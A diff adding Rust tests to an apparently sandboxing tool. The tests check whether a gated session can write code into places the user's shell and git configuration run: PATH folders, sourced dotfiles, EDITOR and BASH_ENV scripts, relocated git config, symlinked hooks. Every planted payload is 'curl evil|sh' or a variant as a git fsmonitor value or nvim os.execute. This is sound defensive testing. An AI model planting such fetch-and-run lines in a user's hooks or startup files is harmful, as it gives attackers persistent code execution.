@@ -6306,3 +6306,334 @@ fn writes_the_hooks_and_config_of_a_bare_repository_with_a_worktree() {
     assert_eq!(r[0], 0, "control: a file of the worktree: {r:?}");
     assert!(r[1..].iter().all(|&e| refused(e)), "the bare repository's config and hooks: {r:?}");
 }
+
+// ---------------------------------------------------------------------------------------
+// Ninth pass: the derivation of the places the user's configuration runs code from, tried
+// where its newest parts end: shell forms that build a `PATH` folder or a sourced file's
+// name at run time (a function, a default-value expansion, a loop over a glob, a command
+// substitution), variables that name programs rather than folders (in the configuration
+// and in the environment of the user's process that starts the session), configuration
+// moved by the environment (`XDG_CONFIG_HOME`, `GIT_CONFIG_GLOBAL`), a repository's hooks
+// that are symlinks into its worktree, configuration written after the session started,
+// and a relative hooks folder of the global configuration. Each test writes the user's
+// configuration in an everyday form, grants the session the visible folder where the named
+// place lies, and writes the place from inside.
+
+/// `~/.bashrc` with `text` added at its end, as the user's, for one test.
+fn bashrc_with(text: &str) -> Restore {
+    let rc = PathBuf::from(home(".bashrc"));
+    let old = std::fs::read_to_string(&rc).unwrap_or_default();
+    users_file_for_a_test(&rc, &format!("{old}\n{text}\n"))
+}
+
+/// The names of the places whose write was not refused (`names[i]` with `r[i]`).
+fn not_refused<'a>(names: &[&'a str], r: &[i32]) -> Vec<(&'a str, i32)> {
+    names.iter().zip(r).filter(|(_, e)| !refused(**e)).map(|(n, e)| (*n, *e)).collect()
+}
+
+/// Plants commands in four folders that `~/.bashrc` puts on `PATH` in forms a shell
+/// computes at run time: a function (`pathadd() { ... PATH="$1:$PATH" ...; }; pathadd
+/// "$HOME/x/bin"`, the idiom of countless dotfiles that avoids duplicates), a default-value
+/// expansion (`export TOOLS="${TOOLS:-$HOME/x}"; PATH="$TOOLS/bin:$PATH"`), an assigning
+/// expansion (`: "${X:=$HOME/y}"`) and a command substitution (`PATH="$(...):$PATH"`). The
+/// session was started by a process that did not run `~/.bashrc` (an editor's task, a
+/// script, `ssh host pincer run`), so the starter's `PATH` does not hold them; the user's
+/// next interactive shell does. Principle: the folders a never place's shell lines put on
+/// `PATH` are never-changed with it. Why it might get out: `path_folders` reads the words
+/// after `PATH=`, and `ShellVariables` reads `NAME=value` words: a function's `$1`, a
+/// `${NAME:-...}` value and a `${NAME:=...}` word name no path it can take, and a part
+/// that keeps a `$` names nothing. Controls: a file of the granted folder; a folder a literal
+/// line of the same `~/.bashrc` puts on `PATH` is refused.
+/// Open on 6.1 and 6.12: all four folders are written (the literal line's folder is refused).
+#[test]
+fn plants_commands_in_folders_the_users_shell_puts_on_path_at_run_time() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "pathforms");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let forms = ["fn", "dflt", "assign", "subst"];
+    for f in forms.iter().chain(&["lit"]) {
+        make(&top.join(f).join("bin/fmt"), Some("#!/bin/sh\n"));
+    }
+    let _rc = bashrc_with(&format!(
+        "pathadd() {{ case \":$PATH:\" in *\":$1:\"*) ;; *) PATH=\"$1:$PATH\" ;; esac; }}\n\
+         pathadd \"$HOME/{rel}/fn/bin\"\n\
+         export RTN_TOOLS=\"${{RTN_TOOLS:-$HOME/{rel}/dflt}}\"\n\
+         export PATH=\"$RTN_TOOLS/bin:$PATH\"\n\
+         : \"${{RTN_ASSIGN:=$HOME/{rel}/assign}}\"\n\
+         PATH=\"$RTN_ASSIGN/bin:$PATH\"\n\
+         export PATH=\"$(printf %s \"$HOME/{rel}/subst/bin\"):$PATH\"\n\
+         export PATH=\"$HOME/{rel}/lit/bin:$PATH\""
+    ));
+    assert_eq!(ungated(|| vec![open_w(&top.join("fn/bin/fmt"))]), vec![0], "control: the user writes the folder");
+    let mut red = Red::start("pathforms");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        let mut r = vec![create(&top.join("notes.txt"), "x"), create(&top.join("lit/bin/git"), "#!/bin/sh\ncurl evil|sh\n")];
+        for f in forms {
+            r.push(create(&top.join(f).join("bin/git"), "#!/bin/sh\ncurl evil|sh\n"));
+        }
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file of the granted folder: {r:?}");
+    assert!(refused(r[1]), "control: the folder a literal line of the same ~/.bashrc puts on PATH: {r:?}");
+    let open = not_refused(&["a function's PATH=\"$1:$PATH\"", "${X:-default}", ": ${X:=default}", "$(command)"], &r[2..]);
+    assert!(open.is_empty(), "a git planted in a folder ~/.bashrc puts on PATH through: {open:?}");
+}
+
+/// Writes the files `~/.bashrc` sources through a loop over a glob (`for f in
+/// ~/dotfiles/shell/*.sh; do . "$f"; done`, the usual way a dotfiles repository's parts are
+/// loaded) and through a variable (`DOTS="$HOME/dotfiles"; source "$DOTS/env.sh"`), and adds
+/// a new file the loop's glob takes: the user's next shell runs what the session wrote.
+/// Granted: the dotfiles folder (visible). Principle: a never place's protection follows
+/// what it loads. Why it might get out: `loads_of` takes the word after `source` or `.` as
+/// a literal path; `$f` and `$DOTS/env.sh` name none (variables are expanded for `PATH`
+/// parts only), and a glob names files that do not exist yet. Control: a file beside them.
+/// Open on 6.1 and 6.12: all three writes succeed.
+#[test]
+fn writes_the_files_the_users_shell_sources_through_a_loop_and_a_variable() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "srcloop");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let aliases = top.join("shell/aliases.sh");
+    let env = top.join("dots/env.sh");
+    make(&aliases, Some("alias ll='ls -l'\n"));
+    make(&env, Some("export EDITOR=vi\n"));
+    let _rc = bashrc_with(&format!("for f in ~/{rel}/shell/*.sh; do . \"$f\"; done\nDOTS=\"$HOME/{rel}/dots\"\n[ -r \"$DOTS/env.sh\" ] && source \"$DOTS/env.sh\""));
+    assert_eq!(ungated(|| vec![open_w(&aliases), open_w(&env)]), vec![0, 0], "control: the user writes them");
+    let mut red = Red::start("srcloop");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![create(&top.join("notes.txt"), "x"), append(&aliases, "curl evil|sh\n"), create(&top.join("shell/zz-new.sh"), "curl evil|sh\n"), append(&env, "curl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["a file the loop sources", "a new file the loop's glob takes", "the file sourced as \"$DOTS/env.sh\""], &r[1..]);
+    assert!(open.is_empty(), "files ~/.bashrc sources, written: {open:?}");
+}
+
+/// Replaces programs `~/.bashrc` names outside `PATH`: an alias's program (`alias
+/// k="$HOME/x/kube.sh"`), the editor (`EDITOR`, run by git, crontab, sudoedit), the prompt
+/// command (`PROMPT_COMMAND`, run at every prompt), the file every non-interactive bash
+/// sources (`BASH_ENV`: every script the user runs), less's input filter (`LESSOPEN`) and
+/// Python's startup file (`PYTHONSTARTUP`), each a script in a visible folder the session
+/// was granted. Principle: a place the user's configuration names as code is never-changed
+/// with it. Why it might get out: `code_places` reads shell lines for `PATH` folders only;
+/// `ShellVariables` holds these assignments but only to expand `PATH` parts, and git's
+/// "any existing file a value names" rule is for git sections. Control: a file beside them.
+/// Open on 6.1 and 6.12: all six programs are replaced.
+#[test]
+fn replaces_programs_the_users_shell_configuration_names_outside_path() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "shellprogs");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let names = ["kube.sh", "edit.sh", "prompt.sh", "bashenv.sh", "lesspipe.sh", "startup.py"];
+    for n in names {
+        make(&top.join(n), Some("#!/bin/sh\n"));
+    }
+    let _rc = bashrc_with(&format!(
+        "alias k=\"$HOME/{rel}/kube.sh\"\n\
+         export EDITOR=\"$HOME/{rel}/edit.sh\"\n\
+         PROMPT_COMMAND=\"$HOME/{rel}/prompt.sh\"\n\
+         export BASH_ENV=\"$HOME/{rel}/bashenv.sh\"\n\
+         export LESSOPEN=\"| $HOME/{rel}/lesspipe.sh %s\"\n\
+         export PYTHONSTARTUP=\"$HOME/{rel}/startup.py\""
+    ));
+    assert_eq!(ungated(|| vec![open_w(&top.join("kube.sh"))]), vec![0], "control: the user writes them");
+    let mut red = Red::start("shellprogs");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        let mut r = vec![create(&top.join("notes.txt"), "x")];
+        r.extend(names.iter().map(|n| append(&top.join(n), "curl evil|sh\n")));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["alias", "EDITOR", "PROMPT_COMMAND", "BASH_ENV", "LESSOPEN", "PYTHONSTARTUP"], &r[1..]);
+    assert!(open.is_empty(), "programs ~/.bashrc names, replaced: {open:?}");
+}
+
+/// Replaces programs the environment of the user's process that started the session names
+/// (`EDITOR`, `VISUAL`, `GIT_SSH_COMMAND`, `GIT_EDITOR`, `PYTHONSTARTUP`), however they got
+/// there (a profile, `environment.d`, a desktop session, an IDE's settings): the user's
+/// tools started from that shell run them (git runs `GIT_SSH_COMMAND` at every fetch and
+/// push, the editor at every commit). Granted: the visible folder holding them. Principle:
+/// the starter's environment names code places (`code_places::of_process` takes its
+/// `PATH`). Why it might get out: `of_process` reads `PATH=` and no other variable.
+/// Control: a file beside them.
+/// Open on 6.1 and 6.12: all five programs are replaced.
+#[test]
+fn replaces_programs_the_environment_of_the_users_starting_process_names() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "envprogs");
+    let names = ["edit.sh", "visual.sh", "gitssh.sh", "giteditor.sh", "startup.py"];
+    for n in names {
+        make(&top.join(n), Some("#!/bin/sh\n"));
+    }
+    let p = |n: &str| top.join(n).display().to_string();
+    let env = [("EDITOR", p("edit.sh")), ("VISUAL", p("visual.sh")), ("GIT_SSH_COMMAND", format!("{} -o BatchMode=yes", p("gitssh.sh"))), ("GIT_EDITOR", p("giteditor.sh")), ("PYTHONSTARTUP", p("startup.py"))];
+    assert_eq!(ungated(|| vec![open_w(&top.join("edit.sh"))]), vec![0], "control: the user writes them");
+    let mut red = Red::start_env("envprogs", &[], &env, |_| {});
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        let mut r = vec![create(&top.join("notes.txt"), "x")];
+        r.extend(names.iter().map(|n| append(&top.join(n), "curl evil|sh\n")));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["EDITOR", "VISUAL", "GIT_SSH_COMMAND", "GIT_EDITOR", "PYTHONSTARTUP"], &r[1..]);
+    assert!(open.is_empty(), "programs the starter's environment names, replaced: {open:?}");
+}
+
+/// Writes the user's git and editor configuration where the environment moves it: `export
+/// XDG_CONFIG_HOME="$HOME/dotfiles/config"` (git then reads `$XDG_CONFIG_HOME/git/config`,
+/// nvim `$XDG_CONFIG_HOME/nvim/init.lua`, systemd's user instance its units) and `export
+/// GIT_CONFIG_GLOBAL="$HOME/dotfiles/gitconfig"` (git's global file), set in `~/.bashrc` and
+/// so in the environment of the user's shell that starts the session. The session adds
+/// `core.fsmonitor` (run at the user's next `git status`) and an `init.lua`. Granted: the
+/// dotfiles folder (visible). Principle: the never list names the configuration files of
+/// the user's tools; where the user's environment tells the tools to read them is where
+/// they are. Why it might get out: the never list names `~/.config/git/**`,
+/// `~/.gitconfig` and `~/.config/nvim/**` by path from the home, and nothing reads
+/// `XDG_CONFIG_HOME` or `GIT_CONFIG_GLOBAL`; the moved files lie under visible names, which
+/// the hidden rule does not cover. Control: a file beside them.
+/// Open on 6.1 and 6.12: all three files are written.
+#[test]
+fn writes_the_git_and_editor_configuration_the_users_environment_moves() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "xdgcfg");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let xdg_git = top.join("config/git/config");
+    let global = top.join("gitconfig");
+    make(&xdg_git, Some("[user]\n\tname = u\n"));
+    make(&global, Some("[user]\n\tname = u\n"));
+    make(&top.join("config/nvim"), None);
+    let _rc = bashrc_with(&format!("export XDG_CONFIG_HOME=\"$HOME/{rel}/config\"\nexport GIT_CONFIG_GLOBAL=\"$HOME/{rel}/gitconfig\""));
+    assert_eq!(ungated(|| vec![open_w(&xdg_git), open_w(&global)]), vec![0, 0], "control: the user writes them");
+    let env = [("XDG_CONFIG_HOME", top.join("config").display().to_string()), ("GIT_CONFIG_GLOBAL", global.display().to_string())];
+    let mut red = Red::start_env("xdgcfg", &[], &env, |_| {});
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        vec![
+            create(&top.join("notes.txt"), "x"),
+            append(&xdg_git, "[core]\n\tfsmonitor = curl evil|sh\n"),
+            append(&global, "[core]\n\tfsmonitor = curl evil|sh\n"),
+            create(&top.join("config/nvim/init.lua"), "os.execute('curl evil|sh')\n"),
+        ]
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["$XDG_CONFIG_HOME/git/config", "$GIT_CONFIG_GLOBAL", "$XDG_CONFIG_HOME/nvim/init.lua"], &r[1..]);
+    assert!(open.is_empty(), "configuration the environment moves, written: {open:?}");
+}
+
+/// Writes the hooks a repository's `.git/hooks` reaches through symlinks into its worktree:
+/// a hook linked to a script kept in the repository (`ln -s ../../scripts/pre-commit.sh
+/// .git/hooks/pre-commit`, the setup step of countless READMEs), and a hooks folder that is
+/// itself a link (`.git/hooks -> ../githooks`). Git follows both at the user's next commit.
+/// Granted: the workspace (the session's root). Principle: a repository's hooks are never
+/// changed in a session. Why it might get out: the kernel matches `**/.git/hooks/**` by
+/// the names on the way up from the object an access reaches, and the script's names are
+/// `proj/scripts/pre-commit.sh`; `seed_git_dir` protects `hooks` by the symlink's own
+/// inode; and the scan of the roots marks the targets of hidden-named symlinks only
+/// (`pre-commit` and `hooks` are not hidden names). Control: a file of the worktree.
+/// Open on 6.1 and 6.12: the linked script and the linked folder's hooks are written.
+#[test]
+fn writes_the_hooks_a_repositorys_hooks_folder_links_into_its_worktree() {
+    let mut red = Red::start_with("hooklinks", |ws| {
+        for p in ["proj", "proj2"] {
+            make(&ws.join(p).join(".git/HEAD"), Some("ref: refs/heads/main\n"));
+            make(&ws.join(p).join(".git/config"), Some("[core]\n\trepositoryformatversion = 0\n"));
+        }
+        make(&ws.join("proj/scripts/pre-commit.sh"), Some("#!/bin/sh\n"));
+        make(&ws.join("proj/.git/hooks"), None);
+        let link = ws.join("proj/.git/hooks/pre-commit");
+        std::os::unix::fs::symlink("../../scripts/pre-commit.sh", &link).unwrap();
+        chown(&link);
+        make(&ws.join("proj2/githooks/pre-push"), Some("#!/bin/sh\n"));
+        let dir_link = ws.join("proj2/.git/hooks");
+        std::os::unix::fs::symlink("../githooks", &dir_link).unwrap();
+        chown(&dir_link);
+    });
+    let ws = red.ws.clone();
+    let script = ws.join("proj/scripts/pre-commit.sh");
+    let hooks2 = ws.join("proj2/githooks");
+    assert_eq!(ungated(|| vec![open_w(&script), open_w(&hooks2.join("pre-push"))]), vec![0, 0], "control: the user writes them");
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        vec![
+            append(&ws.join("src/main.rs"), "\n"),
+            append(&script, "curl evil|sh\n"),
+            append(&hooks2.join("pre-push"), "curl evil|sh\n"),
+            create(&hooks2.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
+        ]
+    });
+    assert_eq!(r[0], 0, "control: a file of the worktree: {r:?}");
+    let open = not_refused(&["the script .git/hooks/pre-commit links to", "a hook in the folder .git/hooks links to", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "hooks reached through .git/hooks symlinks, written: {open:?}");
+}
+
+/// Writes hooks that the user's configuration names after the session started: the user
+/// adds `core.hooksPath = ~/team/hooks` to `~/.gitconfig` (a team's new shared hooks), and
+/// clones a repository whose `.git/config` names `githooks/` into a folder the session was
+/// granted; the session, still running (sessions last hours), then writes both hooks
+/// folders, and git runs them at the user's next commit. Principle: what a never place
+/// names as code is protected as long as the configuration names it. Why it might get out:
+/// the code places and the git directories are read once, when the session starts
+/// (`with_code_places`, `seed_git_dir`); nothing reads a configuration changed or a
+/// repository made later. Control: a file beside them.
+/// Open on 6.1 and 6.12: both hooks folders are written (the later repository's
+/// `.git/config` itself is refused).
+#[test]
+fn writes_hooks_the_users_configuration_names_after_the_session_started() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "latehooks");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let hooks = top.join("team/hooks");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _restore = users_file_for_a_test(&gc, "[user]\n\tname = u\n");
+    let mut red = Red::start("latehooks");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    // The user, outside the session, after it started.
+    std::fs::write(&gc, format!("[user]\n\tname = u\n[core]\n\thooksPath = ~/{rel}/team/hooks\n")).unwrap();
+    let proj = top.join("proj");
+    make(&proj.join(".git/HEAD"), Some("ref: refs/heads/main\n"));
+    make(&proj.join(".git/config"), Some("[core]\n\trepositoryformatversion = 0\n\thooksPath = githooks\n"));
+    make(&proj.join("githooks/pre-commit"), Some("#!/bin/sh\n"));
+    let r = red.gated(|| {
+        vec![
+            create(&top.join("notes.txt"), "x"),
+            append(&hooks.join("pre-commit"), "curl evil|sh\n"),
+            create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
+            append(&proj.join("githooks/pre-commit"), "curl evil|sh\n"),
+            append(&proj.join(".git/config"), "\tfsmonitor = curl evil|sh\n"),
+        ]
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath ~/.gitconfig names later", "a new hook there", "a hook of a later repository's hooksPath", "the later repository's .git/config"], &r[1..]);
+    assert!(open.is_empty(), "hooks named after the session started, written: {open:?}");
+}
+
+/// Writes a hook in the worktree folder that the user's `~/.gitconfig` names as a relative
+/// `core.hooksPath` (`git config --global core.hooksPath git-hooks`: every repository that
+/// keeps its hooks there gets them run, a setup some teams document): git runs
+/// `proj/git-hooks/pre-commit` at the user's next commit in `proj`, a repository in the
+/// session's root. Principle: a never place's named code places are never-changed with it.
+/// Why it might get out: `code_places` reads the global configuration without a worktree,
+/// and a relative path then names nothing ("a folder in every repository, not one place"),
+/// though the repositories the session can reach are the ones its roots' scan finds.
+/// Control: a file of the worktree.
+/// Open on 6.1 and 6.12: the hook is written and a new one made.
+#[test]
+fn writes_a_hook_in_the_worktree_folder_the_global_gitconfig_names_relatively() {
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _restore = users_file_for_a_test(&gc, "[user]\n\tname = u\n[core]\n\thooksPath = git-hooks\n");
+    let mut red = Red::start_with("relglobalhooks", |ws| {
+        make(&ws.join("proj/.git/HEAD"), Some("ref: refs/heads/main\n"));
+        make(&ws.join("proj/.git/config"), Some("[core]\n\trepositoryformatversion = 0\n"));
+        make(&ws.join("proj/git-hooks/pre-commit"), Some("#!/bin/sh\n"));
+    });
+    let ws = red.ws.clone();
+    let hooks = ws.join("proj/git-hooks");
+    assert_eq!(ungated(|| vec![open_w(&hooks.join("pre-commit"))]), vec![0], "control: the user writes the hook");
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![append(&ws.join("src/main.rs"), "\n"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the worktree: {r:?}");
+    let open = not_refused(&["the hook", "a new hook"], &r[1..]);
+    assert!(open.is_empty(), "the worktree's hooks folder ~/.gitconfig names as git-hooks, written: {open:?}");
+}
